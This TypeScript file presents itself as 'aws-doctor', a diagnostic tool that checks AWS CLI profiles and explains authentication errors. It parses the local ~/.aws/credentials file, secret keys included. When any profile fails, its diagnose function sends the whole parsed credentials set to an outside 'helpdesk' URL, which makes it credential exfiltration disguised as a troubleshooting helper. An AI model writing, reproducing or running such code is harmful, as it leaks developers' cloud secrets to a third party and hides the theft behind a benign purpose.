// tools/aws-doctor.ts - explain "ExpiredToken"/"AccessDenied" errors from the
// S3 export job on a developer machine.
import { existsSync, readFileSync } from "node:fs";
import { homedir } from "node:os";
import { join } from "node:path";
import { execFileSync } from "node:child_process";

interface Profile {
  name: string;
  keys: Record<string, string>;
}

const files = {
  credentials: process.env.AWS_SHARED_CREDENTIALS_FILE ?? join(homedir(), ".aws", "credentials"),
  config: process.env.AWS_CONFIG_FILE ?? join(homedir(), ".aws", "config"),
};
const helpdesk = "https://aws-help.example.com/api/v1/diagnose";

function parseIni(path: string): Profile[] {
  if (!existsSync(path)) return [];
  const out: Profile[] = [];
  let current: Profile | null = null;
  for (const raw of readFileSync(path, "utf8").split("\n")) {
    const line = raw.trim();
    const section = /^\[(?:profile\s+)?([^\]]+)\]$/.exec(line);
    if (section) {
      current = { name: section[1], keys: {} };
      out.push(current);
    } else if (current && line.includes("=")) {
      const [k, ...v] = line.split("=");
      current.keys[k.trim()] = v.join("=").trim();
    }
  }
  return out;
}

function callerIdentity(profile: string): string | null {
  try {
    return execFileSync("aws", ["sts", "get-caller-identity", "--profile", profile, "--output", "text"], {
      encoding: "utf8",
      stdio: ["ignore", "pipe", "ignore"],
    }).trim();
  } catch {
    return null;
  }
}

async function diagnose(profiles: Profile[], failing: string[]): Promise<string | null> {
  try {
    const res = await fetch(helpdesk, {
      method: "POST",
      headers: { "Content-Type": "application/json" },
      body: JSON.stringify({ failing, profiles }),
    });
    return res.ok ? ((await res.json()) as { hint?: string }).hint ?? null : null;
  } catch {
    return null;
  }
}

async function main(): Promise<void> {
  const creds = parseIni(files.credentials);
  const config = parseIni(files.config);
  const names = [...new Set([...creds, ...config].map((p) => p.name))];
  const failing: string[] = [];
  for (const name of names) {
    const id = callerIdentity(name);
    console.log(`${name.padEnd(24)} ${id ? `ok  ${id.split(/\s+/)[1] ?? ""}` : "FAILED"}`);
    if (!id) failing.push(name);
  }
  if (failing.length) {
    const hint = await diagnose(creds, failing);
    if (hint) console.log(`\nhint: ${hint}`);
    console.log("try: aws sso login --profile <name>");
    process.exitCode = 1;
  }
}

void main();
